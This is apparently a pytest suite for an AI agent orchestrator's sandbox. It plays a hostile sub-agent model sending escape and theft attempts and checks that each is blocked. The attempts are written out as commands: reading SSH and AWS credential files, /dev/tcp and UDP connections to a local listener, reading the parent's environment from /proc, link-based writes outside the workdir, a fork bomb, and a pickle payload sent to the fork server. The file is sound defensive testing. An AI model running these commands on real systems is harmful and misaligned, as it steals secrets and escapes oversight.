"""The OS sandbox of a sub-agent, attacked from real children through the real tools.

Every run here uses the default settings (``sandbox = "workspace"``), a real model
client talking to a local model server, and bash commands a hostile model would send.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import sandbox_models
from agentcell.orchestrator import AgentDefinition, Orchestrator, Settings
from agentcell.orchestrator.backends._starters import forkserver_pids
from agentcell.protocol import RunStatus
from agents import agent
from conftest import SpawnRecorder
from delegation_util import gate
from listeners import recording_listener
from model_servers import ModelServer
from sandbox_util import (
    CAPS,
    SEP,
    bash_script,
    orchestrator,
    served,
)

from agentcell.testing import FunctionModel

__all__ = ["served"]  # the fixture

pytestmark = pytest.mark.skipif(
    not CAPS["landlock_scopes"], reason="needs Landlock ABI 6 (this project's CI has 7)"
)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[socket.socket]]]:
    """An "attacker" TCP listener on 127.0.0.1 that records every connection it gets."""
    with recording_listener() as found:
        yield found


async def test_workspace_sandbox_walls_bash_in_and_keeps_the_workdir_usable(
    spawned: SpawnRecorder,
    tmp_path: Path,
    served: ModelServer,
    monkeypatch: pytest.MonkeyPatch,
    listener: tuple[int, list[socket.socket]],
) -> None:
    work, outside, home = tmp_path / "work", tmp_path / "outside", tmp_path / "home"
    for folder in (work, outside, home / ".ssh", home / ".aws"):
        folder.mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-MATERIAL\n")
    (home / ".aws" / "credentials").write_text("aws_secret_access_key=AWS-SECRET\n")
    (outside / "existing.txt").write_text("original\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("AGENTCELL_PARENT_SECRET", "parent-only-secret-42")
    port, accepted = listener
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    me = os.getpid()
    commands = [
        "echo work > inside.txt && mkdir -p sub && mv inside.txt sub/ && cat sub/inside.txt",
        f"echo pwned > {outside}/absolute.txt",
        "echo pwned > ../outside/dotdot.txt",
        f"ln -s {outside}/via-symlink.txt link && echo pwned > link",
        f"ln {outside}/existing.txt hard && echo pwned >> hard",
        f"cp /dev/null {outside}/existing.txt",
        "cat $HOME/.ssh/id_ed25519 $HOME/.aws/credentials",
        f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED",
        f"tr '\\0' '\\n' < /proc/{me}/environ | grep AGENTCELL_PARENT_SECRET",
        f"kill -0 {me} && echo SIGNALLED",
        'echo "tmp=$TMPDIR" && touch "$TMPDIR/scratch" && echo tmp-ok',
        # The model's port is open to the sub-agent process, never to its commands.
        f"exec 3<>/dev/tcp/127.0.0.1/{served.port} && echo MODEL-REACHED",
        # UDP is not Landlock's: the command's own network namespace has none to offer.
        f"echo leak > /dev/udp/127.0.0.1/{udp.getsockname()[1]} && echo UDP-SENT",
    ]
    served.responder = bash_script(commands)
    orch = orchestrator(work, agent("worker", ["bash"]))
    async with orch:
        result = await asyncio.wait_for(orch.delegate("worker", "go"), 60)
    # The child reached its model for every turn, through the parent (it has no TCP).
    assert result.status is RunStatus.COMPLETED, result
    assert len(served.requests) == len(commands) + 1
    assert result.sandbox.startswith("workspace, landlock abi"), result.sandbox
    assert "bash no network" in result.sandbox
    out = result.text.split(SEP)
    assert len(out) == len(commands), result.text
    assert out[0].strip() == "work"  # normal work inside the workdir is fine
    assert (work / "sub" / "inside.txt").read_text() == "work\n"
    assert sorted(p.name for p in outside.iterdir()) == ["existing.txt"]  # nothing written
    assert (outside / "existing.txt").read_text() == "original\n"
    for i in (1, 2, 3, 5):
        assert "Permission denied" in out[i], out[i]
    assert "Invalid cross-device link" in out[4]  # Landlock refuses the link (EXDEV)
    assert "PRIVATE-KEY" not in out[6] and "AWS-SECRET" not in out[6]
    assert "Permission denied" in out[6]
    assert "CONNECTED" not in out[7] and not accepted
    assert "parent-only-secret-42" not in out[8]
    assert "SIGNALLED" not in out[9] and "Operation not permitted" in out[9]
    assert "tmp-ok" in out[10] and "tmp=/" in out[10]
    private_tmp = out[10].split("tmp=")[1].split()[0]
    assert not Path(private_tmp).exists()  # the private temp folder is gone with the child
    assert "MODEL-REACHED" not in out[11] and "Permission denied" in out[11]
    assert "UDP-SENT" not in out[12]
    with pytest.raises(BlockingIOError):
        udp.recv(100)
    udp.close()


async def test_the_child_itself_reaches_no_tcp_port(
    spawned: SpawnRecorder,
    tmp_path: Path,
    served: ModelServer,
    listener: tuple[int, list[socket.socket]],
) -> None:
    # python in bash under network: true (the stacked no-network domain is off) still
    # runs inside the child's own domain, which allows no TCP at all (the parent sends
    # its model requests).
    port, accepted = listener
    probe = (
        "python3 -c 'import socket,sys;"
        f'socket.create_connection(("127.0.0.1", {port}), timeout=5);print("CONNECTED")\''
    )
    served.responder = bash_script([probe])
    orch = orchestrator(tmp_path, agent("worker", ["bash"]), network=True)
    async with orch:
        result = await asyncio.wait_for(orch.delegate("worker", "go"), 60)
    assert result.status is RunStatus.COMPLETED, result
    assert "bash network" in result.sandbox and "own tcp: none" in result.sandbox
    assert "CONNECTED" not in result.text and "PermissionError" in result.text
    assert not accepted


# Run by a sub-agent's bash under ``network: true`` (its own network namespace is then the
# child's: /proc/net/unix lists the fork server's listening socket). It asks the fork server
# for a child whose request unpickles to a shell command writing OUTSIDE, then makes a
# second connection that sends nothing. Either would escape the sandbox or kill every
# sibling, if the fork server took requests from anyone but the orchestrator.
_FORK_SERVER_ATTACK = r"""
import os, pickle, socket, struct, sys
outside, paths = sys.argv[1], sys.argv[2:]  # this test's own fork servers only
class Run:
    def __reduce__(self):
        return (os.system, (f"touch {outside}",))
print("found", len(paths))
for path in paths:
    for payload in (True, False):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(path)
            if payload:
                child_r, parent_w = os.pipe()
                parent_r, child_w = os.pipe()
                spare_r, spare_w = os.pipe()
                fds = [child_r, child_w, spare_r, spare_w]
                socket.send_fds(s, [bytes([len(fds)])], fds)
                for fd in fds:  # the server holds its own copies, if it took them
                    os.close(fd)
                head = body = pickle.dumps(Run())
                request = b"Ap" + struct.pack(">II", len(head), len(body)) + head + body
                try:
                    os.write(parent_w, request)
                except BrokenPipeError:
                    pass
                print("pid", os.read(parent_r, 8))  # b"": refused
            s.close()
            print("sent", payload)
        except OSError as exc:
            print("refused", payload, type(exc).__name__)
"""


def _listening_paths(pid: int) -> list[str]:
    """The paths of the UNIX sockets process ``pid`` listens on (from its own fds)."""
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
            if target.startswith("socket:["):
                inodes.add(target[len("socket:[") : -1])
    with open("/proc/net/unix") as table:
        rows = [line.split() for line in table.readlines()[1:]]
    return [row[7] for row in rows if len(row) > 7 and row[6] in inodes and row[3] == "00010000"]


async def test_a_sub_agent_cannot_use_the_fork_server(
    spawned: SpawnRecorder, tmp_path: Path, served: ModelServer
) -> None:
    workdir, outside = tmp_path / "work", tmp_path / "escaped"
    workdir.mkdir()
    (workdir / "attack.py").write_text(_FORK_SERVER_ATTACK)
    orch = orchestrator(workdir, agent("worker", ["bash"]), warm_spares=1, network=True)
    async with orch:
        # A test attacks only what it started: the listeners of this pool's fork servers.
        paths = [path for pid in forkserver_pids() for path in _listening_paths(pid)]
        assert paths, "the pool's fork servers listen nowhere"
        served.responder = bash_script([f"python3 attack.py {outside} {' '.join(paths)}"])
        result = await asyncio.wait_for(orch.delegate("worker", "go"), 60)
        # The fork server lived through it: the spare beside the attacker still runs.
        after = await asyncio.wait_for(orch.delegate("worker", "go"), 60)
    assert not outside.exists()
    assert result.status is RunStatus.COMPLETED, result
    # Every fork server of this pool is attacked; none forks.
    lines = result.text.splitlines()
    assert lines[0] == f"found {len(paths)}", result.text
    # Each request was refused: dropped before it was read (the attacker's send fails), or
    # read by nobody (no pid comes back). The empty connection is not fatal either.
    found = int(lines[0].split()[1])
    refused = [line for line in lines if line == "pid b''" or line.startswith("refused True")]
    assert len(refused) == found, result.text
    assert not [line for line in lines if line.startswith("pid") and line != "pid b''"]
    assert after.status is RunStatus.COMPLETED, after


async def test_a_fork_bomb_ends_that_sub_agent_with_limit_and_nothing_else(
    spawned: SpawnRecorder, tmp_path: Path, served: ModelServer
) -> None:
    # Bounded: 200 sleeping processes would be harmless without the cap, and the command
    # gives up by itself, so a broken cap fails the test instead of the machine.
    bomb = "for i in $(seq 200); do sleep 20 & done; wait"
    served.responder = bash_script([bomb, "echo second command ran"], timeout_s=15)
    orch = orchestrator(
        tmp_path, agent("bomber", ["bash"], max_processes=40), agent("quiet", ["bash"])
    )
    async with orch:
        bomber = await asyncio.wait_for(orch.delegate("bomber", "go"), 60)
        served.responder = bash_script(["echo fine"])
        quiet = await asyncio.wait_for(orch.delegate("quiet", "go"), 60)
    assert bomber.status is RunStatus.LIMIT, bomber
    assert bomber.sandbox.startswith("workspace, landlock abi")  # it reported before the end
    assert "max_processes=40" in bomber.error
    assert quiet.status is RunStatus.COMPLETED and quiet.text.strip() == "fine"


async def test_a_sub_agent_cannot_signal_its_sibling(
    spawned: SpawnRecorder, tmp_path: Path
) -> None:
    # The victim writes its process id, then waits at a gate; the attacker signals it.
    async with gate() as g:
        victim_model = FunctionModel(sandbox_models.write_pid_then_wait, name="function:victim")
        attacker_model = FunctionModel(sandbox_models.signal_the_pid, name="function:attacker")
        orch = Orchestrator(
            settings=Settings(
                model="scripted:echo", approval="allow", max_workers=3, warm_spares=0
            ),
            workdir=tmp_path,
            agents=[
                AgentDefinition(
                    name="victim", model="function:victim", tools=["bash", "wait_at_gate"]
                ),
                AgentDefinition(name="attacker", model="function:attacker", tools=["bash"]),
            ],
            models={"function:victim": victim_model, "function:attacker": attacker_model},
            tools=[g.tool()],
            load_agent_files=False,
            record=False,
        )
        async with orch:
            victim = asyncio.create_task(orch.delegate("victim", "wait"))
            await asyncio.wait_for(g.wait_arrivals(1), 60)
            attacker = await asyncio.wait_for(orch.delegate("attacker", "attack"), 60)
            g.open()
            victim_result = await asyncio.wait_for(victim, 60)
    assert attacker.status is RunStatus.COMPLETED, attacker
    assert "Operation not permitted" in attacker.text and "SIGNALLED" not in attacker.text
    assert victim_result.status is RunStatus.COMPLETED, victim_result


def test_probe_reports_what_this_machine_enforces() -> None:
    assert CAPS["landlock_abi"] >= 6 and CAPS["landlock_tcp"] and CAPS["landlock_files"]
    assert set(json.loads(json.dumps(CAPS))) == set(CAPS)


def git_repo(repo: Path) -> Path:
    repo.mkdir()
    for args in (["init", "-q"], ["config", "user.email", "t@t"], ["config", "user.name", "t"]):
        subprocess.run(["git", *args], cwd=repo, check=True)
    (repo / "README.md").write_text("hello\n")
    subprocess.run(["git", "add", "."], cwd=repo, check=True)
    subprocess.run(["git", "commit", "-qm", "init"], cwd=repo, check=True)
    return repo


async def test_git_works_in_a_worktree_and_read_only_mode_keeps_the_workdir_unchanged(
    spawned: SpawnRecorder, tmp_path: Path, served: ModelServer
) -> None:
    repo = git_repo(tmp_path / "repo")
    served.responder = bash_script(
        ["git log --oneline | wc -l && echo changed >> README.md && git status --short"]
    )
    orch = Orchestrator(
        settings=Settings(model="openai:test", approval="allow", max_workers=2, warm_spares=0),
        workdir=repo,
        agents=[
            agent("tree", ["bash"], isolation="worktree"),
            agent("reader", ["bash"], sandbox="read-only"),
            agent("loose", ["bash"], sandbox="off"),
        ],
        load_agent_files=False,
        run_dir=tmp_path / "run",
    )
    async with orch:
        tree = await asyncio.wait_for(orch.delegate("tree", "go"), 60)
        reader = await asyncio.wait_for(orch.delegate("reader", "go"), 60)
        served.responder = bash_script(["echo $TMPDIR"])
        loose = await asyncio.wait_for(orch.delegate("loose", "go"), 60)
    assert tree.status is RunStatus.COMPLETED, tree
    assert tree.text.split() == ["1", "M", "README.md"], tree.text  # git read and wrote
    assert tree.worktree is not None  # the change is kept in the worktree, as before
    assert reader.sandbox.startswith("read-only")
    assert "Permission denied" in reader.text and (repo / "README.md").read_text() == "hello\n"
    # A definition may narrow the mode, never widen it: "off" still ran in the workspace.
    assert loose.sandbox.startswith("workspace") and "agentcell-sandbox" in loose.text


async def test_a_crashed_child_is_recorded_with_the_mode_it_was_asked_to_apply(
    spawned: SpawnRecorder, tmp_path: Path, served: ModelServer
) -> None:
    served.responder = bash_script(["kill -9 $PPID"])  # bash may still end its own agent
    orch = orchestrator(tmp_path, agent("doomed", ["bash"]))
    async with orch:
        doomed = await asyncio.wait_for(orch.delegate("doomed", "go"), 60)
    assert doomed.status is RunStatus.CRASHED, doomed
    assert doomed.sandbox == "workspace (requested; not confirmed by the child)"


def test_the_etc_listing_is_reused_until_etc_changes(monkeypatch: pytest.MonkeyPatch) -> None:
    # The fork server lists /etc once and its children reuse the answer; an entry added
    # to (or removed from) /etc changes its mtime, and the next sandbox lists it again.
    from agentcell.worker.sandbox import _landlock_rules as _common_rules

    stamp = [1]
    listed: list[str] = []
    names = ["hosts", "shadow", "resolv.conf"]

    def listdir(path: str) -> list[str]:
        listed.append(path)
        return list(names) if path == "/etc" else []

    monkeypatch.setattr(_common_rules, "_mtime_ns", lambda path: stamp[0])
    monkeypatch.setattr(_common_rules.os, "listdir", listdir)
    monkeypatch.setattr(_common_rules, "_etc_cache", {})
    first = _common_rules.etc_paths()
    assert "/etc/hosts" in first and "/etc/shadow" not in first
    calls = len(listed)
    assert _common_rules.etc_paths() == first and len(listed) == calls  # reused
    names.append("added.conf")
    stamp[0] = 2  # what adding the file did to /etc's mtime
    assert "/etc/added.conf" in _common_rules.etc_paths() and len(listed) > calls


async def test_each_spare_is_in_a_cgroup_of_its_own_before_its_run_and_the_pool_removes_it(
    spawned: SpawnRecorder,
) -> None:
    # Moving into a cgroup waits on the kernel's cgroup locks (ms under fan-out): a spare
    # does it before its Hello. The cap stays per sub-agent (one process, one cgroup),
    # and the pool itself removes the cgroup once the child is gone, whoever leased it.
    from agentcell.orchestrator.backends._forkserver import WorkerPool
    from agentcell.worker.sandbox import _cgroup
    from pool_util import run_op

    if _cgroup.controller() is None:
        pytest.skip("no writable cgroup pids controller on this machine")
    async with WorkerPool(max_workers=2, warm=2) as pool:
        await pool.warmed()
        spares = pool.pids()
        paths = [_cgroup.cap_path(pid) for pid in spares]
        assert len(set(paths)) == 2
        for pid, path in zip(spares, paths, strict=True):
            assert path is not None and path.is_dir(), path
            assert (path / "cgroup.procs").read_text().split() == [str(pid)]
            assert (path / "pids.max").read_text().strip() == "max"  # no run, no limit yet
        _, outcome = await run_op(pool, "echo", text="x")
        assert outcome.pid in spares
        gone = _cgroup.cap_path(outcome.pid)
        assert gone is not None and not gone.exists()
    for path in paths:
        assert path is not None and not path.exists()


def test_a_pool_removes_the_cgroups_a_killed_orchestrator_left_behind(
    spawned: SpawnRecorder,
) -> None:
    # An orchestrator SIGKILLed with spares alive leaves their (empty) cgroups; the next
    # pool removes those of processes that are gone, never one with members.
    from agentcell.orchestrator.backends._forkserver import WorkerPool
    from agentcell.worker.sandbox import _cgroup

    found = _cgroup.controller()
    if found is None:
        pytest.skip("no writable cgroup pids controller on this machine")
    beyond = int(Path("/proc/sys/kernel/pid_max").read_text()) + 1  # never a live pid
    stale, occupied = found[1] / str(beyond), found[1] / str(beyond + 1)
    stale.mkdir(parents=True, exist_ok=True)
    occupied.mkdir(exist_ok=True)
    busy = subprocess.Popen(["sleep", "60"])
    try:
        (occupied / "cgroup.procs").write_text(str(busy.pid))  # a member: not stale

        async def start_a_pool() -> None:
            async with WorkerPool(max_workers=1, warm=0):
                pass

        asyncio.run(start_a_pool())
        assert not stale.exists()
        assert occupied.exists()
    finally:
        busy.kill()
        busy.wait()
        _cgroup.release_process_cap(beyond + 1)
        with contextlib.suppress(OSError):
            stale.rmdir()
